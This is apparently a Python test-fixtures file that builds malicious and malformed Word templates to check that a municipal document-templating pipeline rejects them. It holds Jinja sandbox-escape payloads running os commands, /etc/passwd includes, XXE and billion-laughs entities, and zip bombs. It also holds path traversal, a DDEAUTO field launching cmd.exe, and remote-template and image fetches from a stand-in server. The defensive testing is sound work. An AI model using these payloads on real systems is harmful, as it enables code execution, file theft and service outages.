"""Templates that are broken, strange or made to do harm: `tjansteskrivelse.docx` of the folder."""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import NamedTuple

from tests.docx import (
    NAMESPACES,
    REL,
    WML,
    Part,
    bars,
    changed,
    chart_drawing,
    chart_part,
    docx,
    field,
    files_of,
    p,
    package,
    picture,
    png,
    row,
    table,
)
from tests.hostile.workbooks import CALL, LAUGHS, OLE, THEFT
from tests.hostile.zips import Member, deflated, member, put_together

BODY, RELATIONS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
SETTINGS, SETTINGS_RELATIONS = "word/settings.xml", "word/_rels/settings.xml.rels"
FINE = "{{ ärende.ärendemening }}"


class Case(NamedTuple):
    """One template. `says`: what the lines about it hold; "" when the document is built."""

    make: Callable[[], bytes]
    says: str


CASES: dict[str, Case] = {}
Make = Callable[[], bytes]


def case(says: str = "") -> Callable[[Make], Make]:
    """Put a function that returns a template among the cases, under its own name."""

    def listed(make: Make) -> Make:
        CASES[make.__name__] = Case(make, says)
        return make

    return listed


def each(says: str, name: str, /, **bodies: str) -> None:
    """Put a template with each of these paragraphs among the cases."""
    for key, body in bodies.items():
        CASES[f"{name}_{key}"] = Case(_of_one_paragraph(body), says)


def _of_one_paragraph(body: str) -> Make:
    return lambda: docx(p(FINE), body if body.startswith("<") else p(body))


# ---------------------------------------------------------------- code

each(
    "brödtexten, stycket",
    "code",
    cycler="{{ cycler.__init__.__globals__.os.popen('touch stulen').read() }}",
    joiner="{{ joiner.__init__.__globals__['os'].system('touch stulen') }}",
    namespace="{{ namespace.__init__.__globals__ }}",
    selves="{{ self.__init__.__globals__ }}{{ self._TemplateReference__context }}",
    classes="{{ ''.__class__.__mro__[1].__subclasses__() }}",
    attribute="{{ ''|attr('__class__') }}",
    mapped="{{ [''] | map(attribute='__class__') | list }}",
    grouped="{{ [ärende] | groupby('__class__') | list }}",
    sorted="{{ [ärende] | sort(attribute='record.columns') | list }}",
    formatted="{{ '{0.__class__.__init__.__globals__}'.format(ärende) }}",
    format_map="{{ '{a.__class__}'.format_map({'a': 1}) }}",
    view="{{ ärende.view.dataset.records }}{{ ärende.record.columns }}",
    record="{{ ärende['record'] }}{{ ärende['__class__'] }}",
    source="{{ ärende.ärendemening.source.__class__ }}",
    included="{% include '/etc/passwd' %}",
    imported="{% import 'os' as o %}{{ o.system('touch stulen') }}",
    extended="{% extends '/etc/passwd' %}",
    called="{{ range.__self__ }}{{ range.__globals__ }}",
    macro="{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{{ m.__globals__ }}",
    changing="{% do ärende.record.columns.clear() %}",
    context="{{ get_flashed_messages.__globals__ }}{{ config }}{{ request.application }}",
    lipsum="{{ lipsum.__globals__.os.popen('touch stulen') }}{{ dict.__base__ }}",
    generator="{{ (ärende.ärendemening|list|select).gi_frame.f_back }}",
    awaiting="{{ (1 for x in [1]).gi_code }}",
)

each("", "harmless", name="{% set ns = namespace(x=1) %}{% set ns.__class__ = 1 %}{{ ns.x }}")

# ---------------------------------------------------------------- without end

each(
    "Mallen",
    "endless",
    loops="{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
    silent="{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
    range="{% for a in range(1000000000) %}x{% endfor %}",
    power="{{ 9 ** 9 ** 9 ** 9 }}",
    multiplied="{{ 'x' * 1000000000 }}",
    doubled="{% set a = 'x' %}" + "{% set a = a ~ a %}" * 40 + "{{ a }}",
    added="{% set a = 'xx' %}" + "{% set a = a + a %}" * 40 + "{{ a }}",
    listed="{% set a = ['x'] %}" + "{% set a = a + a %}" * 40 + "{{ a|length }}",
    joined="{% set a = 'x' * 100000 %}{% for b in range(100000) %}{{ a }}{% endfor %}",
    centred="{{ 'x'|center(1000000000) }}",
    indented="{{ 'x\\ny'|indent(1000000000) }}",
    replaced="{{ ('x' * 100000)|replace('x', 'x' * 100000) }}",
    method="{{ ('x' * 100000).replace('x', 'x' * 100000) }}",
    ljust="{{ 'x'.ljust(1000000000) }}",
    zfill="{{ 'x'.zfill(1000000000) }}",
    expandtabs="{{ '\\t'.expandtabs(1000000000) }}",
    percent="{{ '%1000000000d' % 1 }}",
    joins="{{ ('x' * 100000).join('x' * 100000) }}",
    batched="{{ range(100000)|batch(1, 'x')|list|length }}"
    "{{ [1]|batch(1000000000, 'x')|list|length }}",
    sliced="{{ [1]|slice(1000000000)|list|length }}",
    wrapped="{{ ('x ' * 400000)|wordwrap(1) }}",
    recursive="{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    recursive_loop="{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}",
    shifted="{{ 10 ** 9 * 10 ** 9 }}{{ (2 ** 9) ** 9 ** 9 }}",
    digits="{{ 999 ** 9 * 999 ** 9 }}"
    + "{% set n = 999 %}"
    + "{% set n = n * n %}" * 40
    + "{{ n }}",
    summed="{{ [['x'] * 1000000] * 1000000 | length }}",
    macros="{% macro a() %}{% for x in range(1000) %}x{% endfor %}{% endmacro %}"
    "{% macro b() %}{% for x in range(1000) %}{{ a() }}{% endfor %}{% endmacro %}"
    "{% for x in range(1000) %}{{ b() }}{% endfor %}",
    backtracking="{{ ('a' * 30000)|striptags|wordcount }}{{ ('<' * 100000)|striptags }}",
    upper="{{ ('ß' * 900000)|upper|lower|title|capitalize }}",
)


@case("orimligt stor")
def ten_thousand_tags() -> bytes:
    return docx(*(p(f"{{{{ ärende.fel{n} }}}}") for n in range(10_000)))


@case()
def four_thousand_tags_that_are_right() -> bytes:
    return docx(*(p(f"{n} {FINE}") for n in range(4_000)))


@case("Mallen")
def conditions_two_thousand_deep() -> bytes:
    return docx(p("{% if 1 %}" * 2_000 + "x" + "{% endif %}" * 2_000))


@case()
def conditions_fifteen_deep() -> bytes:
    return docx(p("{% if 1 %}" * 15 + FINE + "{% endif %}" * 15))


@case("Mallen")
def loops_a_hundred_deep() -> bytes:
    return docx(p("{% for x in [1] %}" * 100 + "x" + "{% endfor %}" * 100))


@case("Mallen")
def brackets_five_thousand_deep() -> bytes:
    return docx(p("{{ " + "(" * 5_000 + "1" + ")" * 5_000 + " }}"))


@case("Mallen")
def a_sum_of_ten_thousand_terms() -> bytes:
    return docx(p("{{ " + "+".join(["1"] * 10_000) + " }}"))


@case("Mallen")
def a_tag_of_a_megabyte() -> bytes:
    return docx(p("{{ " + "a" * 1_000_000 + " }}"))


@case("orimligt stor")
def a_hundred_thousand_braces() -> bytes:
    return docx(p("{" * 100_000), p("{{" * 50_000), p("{%" * 50_000))


@case("orimligt stor")
def a_hundred_thousand_braces_that_close_nothing() -> bytes:
    return docx(p("}}" * 50_000), p("%}" * 50_000), p("{ " * 50_000))


# ---------------------------------------------------------------- XML


@case("orimligt stor")
def a_million_empty_paragraphs() -> bytes:
    return _body(FINE, "<w:p/>" * 1_000_000)


def _body(text: str, more: str) -> bytes:
    data = docx(text)
    xml = files_of(data)[BODY].decode()
    return changed(data, {BODY: xml.replace("<w:sectPr", f"{more}<w:sectPr")})


@case("tjansteskrivelse.docx")
def xml_a_hundred_thousand_levels_deep() -> bytes:
    return _body(FINE, "<w:x>" * 100_000 + "</w:x>" * 100_000)


@case()
def xml_two_hundred_levels_deep() -> bytes:
    return _body(FINE, "<w:sdt><w:sdtContent>" * 100 + p("x") + "</w:sdtContent></w:sdt>" * 100)


@case()
def tables_in_tables_in_tables() -> bytes:
    inner = p("x")
    for _ in range(60):
        inner = table([f"<w:tc>{inner}{p('y')}</w:tc>"])
    return docx(p(FINE), inner)


@case("DOCTYPE")
def a_billion_laughs() -> bytes:
    data = docx(p(FINE))
    xml = files_of(data)[BODY].decode()
    laughing = xml.replace("<w:document", f"{LAUGHS}<w:document").replace("</w:p>", "&l9;</w:p>")
    return changed(data, {BODY: laughing})


@case("DOCTYPE")
def an_entity_that_reads_a_file() -> bytes:
    return changed(
        docx(p(FINE)), {SETTINGS: f"{THEFT}<w:settings {NAMESPACES}>&stulet;</w:settings>"}
    )


@case("DOCTYPE")
def a_doctype_that_calls_home_from_the_relations() -> bytes:
    return changed(docx(p(FINE)), {RELATIONS: f"{CALL}<Relationships/>"})


@case("tjansteskrivelse.docx")
def a_body_that_is_not_xml() -> bytes:
    return changed(docx(p(FINE)), {BODY: b"<w:document><w:body>{{ \xff }}"})


@case("inte ett Word-dokument")
def a_body_of_another_kind() -> bytes:
    return changed(docx(p(FINE)), {BODY: "<html>{{ ärende.dnr }}</html>"})


@case("inte ”Strict Open XML-dokument”")
def strict_open_xml() -> bytes:
    xml = files_of(docx(p(FINE)))[BODY].decode()
    loose = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    strict = xml.replace(loose, "http://purl.oclc.org/ooxml/wordprocessingml/main")
    return changed(docx(p(FINE)), {BODY: strict})


@case("tjansteskrivelse.docx")
def styles_that_are_not_xml() -> bytes:
    return changed(docx(p(FINE)), {"word/styles.xml": "<w:styles"})


@case()
def styles_that_say_nonsense() -> bytes:
    style = (
        '<w:style w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/>'
        '<w:pPr><w:outlineLvl w:val="mycket"/></w:pPr></w:style>'
        '<w:style w:styleId="B"><w:basedOn w:val="A"/></w:style>'
    )
    return docx(p(FINE, style="A"), styles=style)


@case()
def styles_that_are_based_on_each_other() -> bytes:
    style = (
        '<w:style w:type="paragraph" w:styleId="{0}"><w:name w:val="{0}"/><w:basedOn '
        'w:val="{1}"/></w:style>'
    )
    return docx(p(FINE, style="A"), styles=style.format("A", "B") + style.format("B", "A"))


@case()
def lists_that_say_nonsense() -> bytes:
    xml = f'<w:numbering {NAMESPACES}><w:num w:numId="ett"/><w:num/><w:abstractNum/></w:numbering>'
    return changed(docx(p(FINE)), {"word/numbering.xml": xml})


@case()
def private_signs_in_the_text() -> bytes:
    return docx(p("\U000f00001\U000f0001 \U000f0002 \x7f \ufffd \u202e" + FINE))


@case()
def a_body_in_utf_16() -> bytes:
    xml = files_of(docx(p(FINE)))[BODY].decode().replace("UTF-8", "UTF-16")
    return changed(docx(p(FINE)), {BODY: xml.encode("utf-16")})


@case()
def a_body_that_says_latin_1() -> bytes:
    xml = files_of(docx(p(FINE)))[BODY].decode().replace("UTF-8", "ISO-8859-1")
    return changed(docx(p(FINE)), {BODY: xml.encode("latin-1")})


@case()
def instructions_and_comments_in_the_xml() -> bytes:
    return _body(FINE, '<?xml-stylesheet href="http://127.0.0.1:9/x"?><!-- fel --><w:p/>')


# ---------------------------------------------------------------- the package


@case("inte ett Word-dokument")
def text_renamed() -> bytes:
    return b"Hej {{ namn }}"


@case("tom")
def nothing_at_all() -> bytes:
    return b""


@case("äldre format")
def a_document_of_the_nineties() -> bytes:
    return OLE + bytes(2_000)


@case("lösenord")
def a_password() -> bytes:
    return OLE + "EncryptedPackage".encode("utf-16-le")


@case("skadad")
def a_workbook_renamed() -> bytes:
    return package(
        {TYPES: "<Types/>", "_rels/.rels": "<Relationships/>", "xl/workbook.xml": "<w/>"}
    )


@case("orimligt stor")
def a_body_that_unpacks_to_300_mb() -> bytes:
    return _with_member(member(BODY, b"<w:document>", b" " * 1_000_000, times=300))


@case("skadad")
def a_bomb_that_lies_about_its_size() -> bytes:
    packed, _, crc = deflated([b"<w:document>", *[b" " * 1_000_000] * 300])
    return _with_member(Member(BODY.encode(), packed, 900, crc))


def _with_member(made: Member) -> bytes:
    kept = files_of(docx(p(FINE)))
    del kept[made.name.decode()]
    return put_together([*(member(name, data) for name, data in kept.items()), made])


@case("orimligt stor")
def half_a_million_entries() -> bytes:
    return put_together([member(BODY, b"<a/>")], twice=500_000)


@case("orimligt stor")
def a_hundred_megabytes_of_xml() -> bytes:
    line = random.Random(1).randbytes(20_000).hex()
    paragraph = f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>".encode()
    noise = random.Random(2).randbytes(1_000_000)
    kept = files_of(docx(p(FINE)))
    start, _, end = kept.pop(BODY).partition(b"<w:sectPr")
    body = member(BODY, start, *[paragraph] * 2_500, b"<w:sectPr" + end)
    return put_together([*(member(n, d) for n, d in kept.items()), body, member("x", noise)])


@case("otillåtna")
def a_part_that_climbs_out_of_the_file() -> bytes:
    return changed(docx(p(FINE)), {"word/../../../ut.xml": b"x"})


@case("otillåtna")
def a_part_that_stands_there_twice() -> bytes:
    kept = files_of(docx(p(FINE)))
    return put_together([*(member(n, d) for n, d in kept.items()), member(BODY, b"<w:document/>")])


@case("otillåtna")
def a_part_in_other_case() -> bytes:
    return changed(docx(p(FINE)), {"WORD/DOCUMENT.XML": b"<w:document/>"})


@case("inte ett Word-dokument")
def no_types() -> bytes:
    return changed(docx(p(FINE)), {TYPES: None})


@case("inte ett Word-dokument")
def no_relations() -> bytes:
    return changed(docx(p(FINE)), {"_rels/.rels": None})


@case("inte ett Word-dokument")
def no_body() -> bytes:
    return changed(docx(p(FINE)), {BODY: None})


@case("inte ett Word-dokument")
def a_body_of_the_wrong_type() -> bytes:
    types = files_of(docx(p(FINE)))[TYPES].replace(b"document.main+xml", b"styles+xml")
    return changed(docx(p(FINE)), {TYPES: types})


@case("tjansteskrivelse.docx")
def types_of_another_kind() -> bytes:
    return changed(docx(p(FINE)), {TYPES: "<Types/>"})


@case()
def no_styles_and_no_lists() -> bytes:
    data = docx(p(FINE))
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
    return changed(data, {"word/styles.xml": None, "word/numbering.xml": None, RELATIONS: rels})


@case()
def no_relations_of_its_own() -> bytes:
    data = docx(p(FINE))
    return changed(data, {RELATIONS: None})


def with_relation(data: bytes, relation: str, part: str = RELATIONS) -> bytes:
    """Return the package with one more relationship."""
    files = files_of(data)
    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    rels = files.get(part, empty.encode()).decode()
    if "</Relationships>" not in rels:
        rels = rels.rstrip().removesuffix("/>") + "></Relationships>"
    return changed(data, {part: rels.replace("</Relationships>", f"{relation}</Relationships>")})


def relation(kind: str, target: str, more: str = "", id: str = "rIdUt") -> str:
    """Return a relationship to something outside, unless `more` says otherwise."""
    mode = more or ' TargetMode="External"'
    return f'<Relationship Id="{id}" Type="{REL}/{kind}" Target="{target}"{mode}/>'


@case("finns inte")
def a_relation_to_a_part_that_is_not_there() -> bytes:
    return with_relation(docx(p(FINE)), relation("header", "borta.xml", " "))


@case("finns inte")
def a_picture_that_is_not_there() -> bytes:
    return changed(docx(p(picture("x"), FINE)), {"word/media/rIdBild.png": None})


@case()
def relations_with_the_same_id() -> bytes:
    again = relation("styles", "styles.xml", " ", id="rId-styles")
    return with_relation(docx(p(FINE)), again)


@case("tjansteskrivelse.docx")
def relations_that_are_not_relations() -> bytes:
    return changed(docx(p(FINE)), {RELATIONS: "<a><b/></a>"})


@case("makro")
def macros_under_the_name_of_a_plain_document() -> bytes:
    data = with_relation(
        docx(p(FINE)),
        '<Relationship Id="rIdV" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>',
    )
    types = files_of(data)[TYPES].decode()
    macro = types.replace(
        f"{WML}.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    binary = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    return changed(data, {TYPES: macro.replace("</Types>", binary), "word/vbaProject.bin": OLE})


@case()
def a_dotx_renamed() -> bytes:
    types = files_of(docx(p(FINE)))[TYPES].decode()
    types = types.replace(f"{WML}.document.main+xml", f"{WML}.template.main+xml")
    return changed(docx(p(FINE)), {TYPES: types})


def _truncated(tenth: int) -> Make:
    def make() -> bytes:
        data = docx(p(FINE), headers="h", footnotes=["n"])
        return data[: len(data) * tenth // 10]

    return make


for _tenth in range(1, 10):
    CASES[f"only_the_first_{_tenth}_tenths_of_it"] = Case(_truncated(_tenth), "skadad")


def _flipped(seed: int) -> Make:
    def make() -> bytes:
        data = bytearray(docx(p(FINE), headers="h", footnotes=["n"]))
        chance = random.Random(seed)
        for _ in range(20):
            data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        return bytes(data)

    return make


for _seed in range(3):
    CASES[f"twenty_flipped_bits_{_seed}"] = Case(_flipped(_seed), "tjansteskrivelse.docx")


# ---------------------------------------------------------------- what a reader's Word would fetch

UNC = "file:///\\\\203.0.113.9\\delad\\mall.dotm"
WEB = "http://203.0.113.9/x"


@case()
def a_template_on_another_server() -> bytes:
    inner = '<w:attachedTemplate r:id="rIdUt"/>'
    return with_relation(
        docx(p(FINE), settings=inner), relation("attachedTemplate", UNC), SETTINGS_RELATIONS
    )


@case("hämtas utifrån")
def a_picture_on_another_server() -> bytes:
    data = docx(p(picture("x"), FINE))
    linked = files_of(data)[BODY].replace(b'r:embed="rIdBild"', b'r:link="rIdUt"')
    return with_relation(changed(data, {BODY: linked}), relation("image", f"{WEB}.png"))


@case("hämtas utifrån")
def an_old_picture_on_another_server() -> bytes:
    shape = '<w:r><w:pict><v:shape><v:imagedata r:id="rIdUt"/></v:shape></w:pict></w:r>'
    return with_relation(docx(p(shape, FINE)), relation("image", UNC))


@case("hämtas utifrån")
def an_old_picture_with_an_address_of_its_own() -> bytes:
    return docx(
        p(f'<w:r><w:pict><v:shape><v:imagedata src="{WEB}.png"/></v:shape></w:pict></w:r>', FINE)
    )


@case("hämtas utifrån")
def a_picture_in_the_footer_on_another_server() -> bytes:
    data = docx(p(FINE), footers=p(picture("x")))
    linked = files_of(data)["word/footer-default.xml"].replace(
        b'r:embed="rIdBild"', b'r:link="rIdUt"'
    )
    rels = "word/_rels/footer-default.xml.rels"
    return with_relation(
        changed(data, {"word/footer-default.xml": linked}), relation("image", WEB), rels
    )


each(
    "hämtas utifrån",
    "field",
    picture=p(field(f'INCLUDEPICTURE "{WEB}.png" \\d'), FINE),
    text=p(field('INCLUDETEXT "\\\\\\\\203.0.113.9\\\\x\\\\y.docx"'), FINE),
    dde=p(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), FINE),
    dde_lower=p(field("  dde excel x y"), FINE),
    link=p(field(f'LINK Excel.Sheet.12 "{WEB}.xlsx" "Blad1!R1C1" \\a'), FINE),
    database=p(field('DATABASE \\d "C:\\\\x.mdb" \\s "select 1"'), FINE),
    imported=p(field(f'IMPORT "{WEB}.png"'), FINE),
    referred=p(field(f'RD "{WEB}.docx"'), FINE),
    simple=f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{WEB}&quot; "><w:r><w:t>'
    f"x</w:t></w:r></w:fldSimple></w:p>",
    split='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
    "DD</w:instrText></w:r>"
    "<w:r><w:instrText>EAUTO</w:instrText></w:r><w:r><w:instrText> c:\\x</w:instrText></w:r>"
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    across='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
    "DDE</w:instrText></w:r></w:p>"
    "<w:p><w:r><w:instrText>AUTO c:\\x</w:instrText></w:r><w:r><w:fldChar "
    'w:fldCharType="end"/></w:r></w:p>',
    nested='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    + field("QUOTE 68 68 69 65 85 84 79", "DDEAUTO").removeprefix("<w:p>")
    + "<w:r><w:instrText> c:\\x</w:instrText></w:r><w:r><w:fldChar "
    'w:fldCharType="end"/></w:r></w:p>',
    tagged=p(field("INCLUDEPICTURE {{ ärende.dnr }}"), FINE),
)


@case("hämtas utifrån")
def a_text_on_another_server() -> bytes:
    return with_relation(_body(FINE, '<w:altChunk r:id="rIdUt"/>'), relation("aFChunk", WEB))


@case("altChunk")
def a_web_page_inside() -> bytes:
    data = _body(FINE, '<w:altChunk r:id="rIdA"/>')
    data = with_relation(data, relation("aFChunk", "sida.html", " ", id="rIdA"))
    types = files_of(data)[TYPES].decode()
    html = '<Default Extension="html" ContentType="text/html"/></Types>'
    page = f"<html><img src='{WEB}.png'></html>"
    return changed(data, {TYPES: types.replace("</Types>", html), "word/sida.html": page})


@case("hämtas utifrån")
def an_object_on_another_server() -> bytes:
    inner = (
        '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'Type="Link" r:id="rIdUt"/></w:object></w:r>'
    )
    return with_relation(docx(p(inner, FINE)), relation("oleObject", f"{WEB}.rtf"))


def _with_chart(says: str, name: str, *plots: str, **drawing: str) -> None:
    """Put a template with a chart that would be filled among the cases."""
    drawn = p(chart_drawing("{{ diagrammet }}", **drawing))
    CASES[f"a_chart_{name}"] = Case(lambda: docx(p(FINE), drawn, parts=[chart_part(*plots)]), says)


_with_chart("diagrammets höjd", "of_no_height", bars(), cy="hög")
_with_chart("det som ritar diagrammet", "that_is_lost", bars(), id="rIdBorta")
_with_chart("inga dataserier", "of_nothing", bars(0))
_with_chart("blandar sorter", "of_bars_and_a_line", bars(), bars(1, "lineChart"))
_with_chart("sortens diagram", "of_points", bars(2, "scatterChart"))
_with_chart("”diagrammet” finns inte", "in_a_letter", bars())


@case("inbäddat objekt")
def an_object_inside() -> bytes:
    inner = (
        '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'Type="Embed" ProgID="Package" r:id="rIdO"/></w:object></w:r>'
    )
    made = Part(
        "word/embeddings/oleObject1.bin",
        "application/vnd.openxmlformats-officedocument.oleObject",
        f"{REL}/oleObject",
        OLE,
        "rIdO",
    )
    return docx(p(inner, FINE), parts=[made])


@case("inbäddat objekt")
def a_control_inside() -> bytes:
    made = Part(
        "word/activeX/activeX1.xml",
        "application/vnd.ms-office.activeX+xml",
        f"{REL}/control",
        b"<ocx/>",
        "rIdC",
    )
    return docx(p('<w:r><w:object><w:control r:id="rIdC"/></w:object></w:r>', FINE), parts=[made])


@case("hämtas utifrån")
def a_subdocument() -> bytes:
    return with_relation(
        _body(FINE, '<w:subDoc r:id="rIdUt"/>'), relation("subDocument", f"{WEB}.docx")
    )


@case("hämtas utifrån")
def a_page_with_frames() -> bytes:
    frames = (
        f"<w:webSettings {NAMESPACES}><w:frameset><w:frame><w:sourceFileName "
        f'r:id="rIdUt"/></w:frame></w:frameset></w:webSettings>'
    )
    made = Part(
        "word/webSettings.xml",
        f"{WML}.webSettings+xml",
        f"{REL}/webSettings",
        frames.encode(),
        "rIdW",
    )
    return with_relation(
        docx(p(FINE), parts=[made]), relation("frame", WEB), "word/_rels/webSettings.xml.rels"
    )


@case("hämtas utifrån")
def a_mail_merge_with_a_database() -> bytes:
    inner = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:query w:val="SELECT '
        '* FROM x"/><w:dataSource r:id="rIdUt"/></w:mailMerge>'
    )
    return with_relation(
        docx(p(FINE), settings=inner), relation("mailMergeSource", UNC), SETTINGS_RELATIONS
    )


@case("hämtas utifrån")
def a_stylesheet_on_another_server() -> bytes:
    inner = '<w:saveThroughXslt r:id="rIdUt"/>'
    return with_relation(
        docx(p(FINE), settings=inner), relation("transform", WEB), SETTINGS_RELATIONS
    )


@case("hämtas utifrån")
def a_film_on_another_server() -> bytes:
    return with_relation(docx(p(FINE)), relation("video", WEB))


@case()
def an_ordinary_link() -> bytes:
    link = '<w:hyperlink r:id="rIdUt"><w:r><w:t>kommunen</w:t></w:r></w:hyperlink>'
    return with_relation(
        docx(f"<w:p>{link}</w:p>", p(FINE)), relation("hyperlink", "https://example.org")
    )


@case()
def ordinary_fields() -> bytes:
    return docx(p(field("PAGE"), " av ", field("NUMPAGES"), FINE), p(field('TOC \\o "1-3"')))


@case("inga taggar fylls i")
def custom_xml_with_a_binding() -> bytes:
    made = Part(
        "customXml/item1.xml",
        "application/xml",
        f"{REL}/customXml",
        b"<a><b>{{ fel }}</b></a>",
        "rIdX",
    )
    bound = (
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a/b" '
        'w:storeItemID="{00000000-0000-0000-0000-000000000000}"/>'
        f"</w:sdtPr><w:sdtContent><w:r><w:t>{FINE}</w:t></w:r></w:sdtContent></w:sdt>"
    )
    return docx(f"<w:p>{bound}</w:p>", parts=[made])


@case()
def a_memory_that_is_not_ours() -> bytes:
    from pipeline.ooxml.names import MEMORY

    xml = f'<memory xmlns="{MEMORY}" version="1" kind="program" key="HP"><reads>x</reads></memory>'
    made = Part(
        "customXml/itemBeredning.xml", "application/xml", f"{REL}/customXml", xml.encode(), "rIdM"
    )
    return docx(p(FINE), parts=[made])


@case()
def a_picture_of_a_hundred_megapixels() -> bytes:
    return docx(p(picture("x"), FINE), images={"rIdBild": png(10_000, 10_000)})


@case()
def rows_that_repeat() -> bytes:
    rows = [
        row("{%tr for p in beslut.beslutspunkter %}"),
        row("{{ p.sats }}"),
        row("{%tr endfor %}"),
    ]
    return docx(p(FINE), table(["Sats"], *rows))
